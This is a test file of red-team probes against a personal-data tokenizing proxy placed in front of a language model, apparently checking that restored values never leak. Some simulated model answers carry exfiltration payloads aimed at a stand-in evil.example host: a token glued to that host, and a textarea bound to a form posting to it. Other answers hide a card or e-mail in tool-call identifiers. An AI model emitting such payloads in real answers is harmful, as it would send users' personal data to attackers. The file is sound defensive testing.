// Red-team probes of the restore side, session 11 (wave10/red; docs/api.md "Session 11"), against
// the real `veil serve` process and the official `openai` npm client. The upstream is a local mock
// of the model only (server/src/bench/fake-openai.ts) answering what each probe needs. Closed here:
// values split across JSON members (JSON-mode transform), a token glued left of a host, a form
// control tied to a form by `form=`, values written in an answer's identifiers, and values broken
// by markup in an answer. At the end no probed value appears in the server's logs.
import OpenAI from 'openai';
import { describe, expect, it } from 'vitest';
import type { FakeOpenAi, FakeReply } from '../server/src/bench/fake-openai.js';
import { sessionWith, useRedTeam } from './support/red-team.js';
import { postJson, settledLogs, type ServerProcess } from './support/server.js';

const EMAIL = 'red.eleven.victim@corp.example';
const CARD = '4111111111111111';

let fake: FakeOpenAi;
let veil: ServerProcess;
let client: OpenAI;
useRedTeam((team) => ({ fake, veil, client } = team));

/** A fresh session holding EMAIL: its token and state. */
function sessionWithEmail(): Promise<{ token: string; state: string }> {
  return sessionWith(veil, EMAIL);
}

/** One proxied answer (content and the first tool call's arguments), whole or streamed; `failure` when the client threw. */
async function proxied(reply: (token: string) => FakeReply, stream: boolean): Promise<{ text: string; failure?: unknown }> {
  const { token, state } = await sessionWithEmail();
  fake.reply = () => ({ chunkSizes: [3], ...reply(token) });
  const options = { headers: { 'x-veil-session-state': state } };
  const messages = [{ role: 'user' as const, content: 'Go on.' }];
  let text = '';
  try {
    if (!stream) {
      const completion = await client.chat.completions.create({ model: 'fake-model', messages }, options);
      return { text: JSON.stringify(completion) };
    }
    const chunks = await client.chat.completions.create({ model: 'fake-model', messages, stream: true }, options);
    for await (const chunk of chunks) text += JSON.stringify(chunk);
  } catch (error) {
    return { text, failure: error };
  }
  return { text };
}

describe('JSON mode: a value split across members is tokenized in every member and restores', () => {
  it.each([
    [{ user: 'red.eleven', domain: '@corp.example', id: 17 }],
    [{ card: [4111, 1111, 1111, 1111], version: [1, 2, 3] }],
    [{ card: ['4111', '1111', '1111', '1111'], ts: [1700000000, 1700000060] }],
    [{ iban: ['DE89', '3704', '0044', '0532', '0130', '00'] }],
    [{ ssn: 78051120, count: 78051120 }],
  ])('%j', async (document) => {
    const made = await postJson(`${veil.url}/v1/transform`, { input_json: document });
    expect(made.status).toBe(200);
    const safe = JSON.stringify(made.body.safe_json);
    for (const raw of ['red.eleven', 'corp.example', '"4111"', '"0532"', '78051120,"count"']) expect(safe).not.toContain(raw);
    const restored = await postJson(`${veil.url}/v1/rehydrate`, { output_json: made.body.safe_json, session_state: made.body.session_state });
    expect(restored.status).toBe(200);
    // Numbers that were personal data come back as strings (JSON rule 3); an SSN with its zero.
    const expected = JSON.parse(JSON.stringify(document, (key, value: unknown) => (key === 'card' && Array.isArray(value) ? value.map(String) : value))) as Record<string, unknown>;
    if ('ssn' in expected) expected.ssn = '078051120';
    expect(restored.body.restored_json).toEqual(expected);
  });
});

describe('erasure reaches what JSON mode read', () => {
  it('an SSN read with its lost zero is erased by revoking the SSN as written elsewhere', async () => {
    const made = await postJson(`${veil.url}/v1/transform`, { input_json: { ssn: 19099998 } });
    expect(made.status).toBe(200);
    expect((await postJson(`${veil.url}/v1/revoke`, { entity_type: 'us_ssn', value: '019-09-9998' })).status).toBe(200);
    const restored = await postJson(`${veil.url}/v1/rehydrate`, { output_json: made.body.safe_json, session_state: made.body.session_state });
    expect(restored.body.restored_json).toEqual({ ssn: '[DELETED]' });
  });
});

describe('a token glued left of a host and a control tied to a form restore no value', () => {
  const outputs: readonly ((token: string) => string)[] = [
    (token) => `Open ${token}.evil.example/ now.`,
    (token) => `Mail ${token}@evil.example please.`,
    (token) => `<textarea form=f name=d>${token}</textarea> <form id=f action=https://evil.example/c><button>Go</button></form>`,
  ];
  it('on /v1/rehydrate', async () => {
    for (const output of outputs) {
      const { token, state } = await sessionWithEmail();
      const restored = await postJson(`${veil.url}/v1/rehydrate`, { output: output(token), session_state: state });
      expect(restored.status).toBe(200);
      expect(restored.body.restored_text, output('T')).not.toContain(EMAIL);
      expect(restored.body.restored_text).toContain('[email address]');
    }
  });

  for (const stream of [false, true]) {
    it(`through the proxy (${stream ? 'streamed in 3-character pieces' : 'whole'})`, async () => {
      for (const output of outputs) {
        const answer = await proxied((token) => ({ content: output(token) }), stream);
        expect(answer.failure).toBeUndefined();
        expect(answer.text, output('T')).not.toContain(EMAIL);
      }
    });
  }
});

describe("a value in an answer's identifiers refuses the answer", () => {
  for (const stream of [false, true]) {
    it(`a card as a function name, an e-mail as a tool call id (${stream ? 'streamed' : 'whole'})`, async () => {
      for (const call of [
        { name: `send_${CARD}`, arguments: '{}' },
        { id: `call_${EMAIL}`, name: 'lookup', arguments: '{}' },
      ]) {
        const answer = await proxied(() => ({ content: null, toolCalls: [call] }), stream);
        expect(String(answer.failure)).toMatch(/422|output protection|identifier/);
        expect(answer.text).not.toContain(CARD);
        expect(answer.text).not.toContain(EMAIL);
      }
    });
  }

  it('ordinary tool calls pass', async () => {
    const answer = await proxied(() => ({ content: null, toolCalls: [{ id: 'call_Bx8CjcvOU2jLn4n570S5', name: 'get_weather', arguments: '{"city":"Paris"}' }] }), true);
    expect(answer.failure).toBeUndefined();
    expect(answer.text).toContain('get_weather');
  });
});

describe('a value broken by markup in an answer is masked whole', () => {
  for (const stream of [false, true]) {
    it(stream ? 'streamed' : 'whole', async () => {
      for (const written of ['4111<b></b>1111 1111 1111', '[4111](https://x.example) 1111 1111 1111', '**4111** 1111 1111 1111']) {
        const answer = await proxied(() => ({ content: `The card is ${written}, as asked.` }), stream);
        expect(answer.failure).toBeUndefined();
        expect(answer.text).not.toContain('4111');
        expect(answer.text).toContain('[REDACTED:credit_card]');
      }
    });
  }
});

describe('no probed value in the server logs', () => {
  it('holds after every probe above', async () => {
    const logs = await settledLogs(veil);
    for (const value of [EMAIL, 'red.eleven', CARD, '78051120']) expect(logs).not.toContain(value);
  });
});
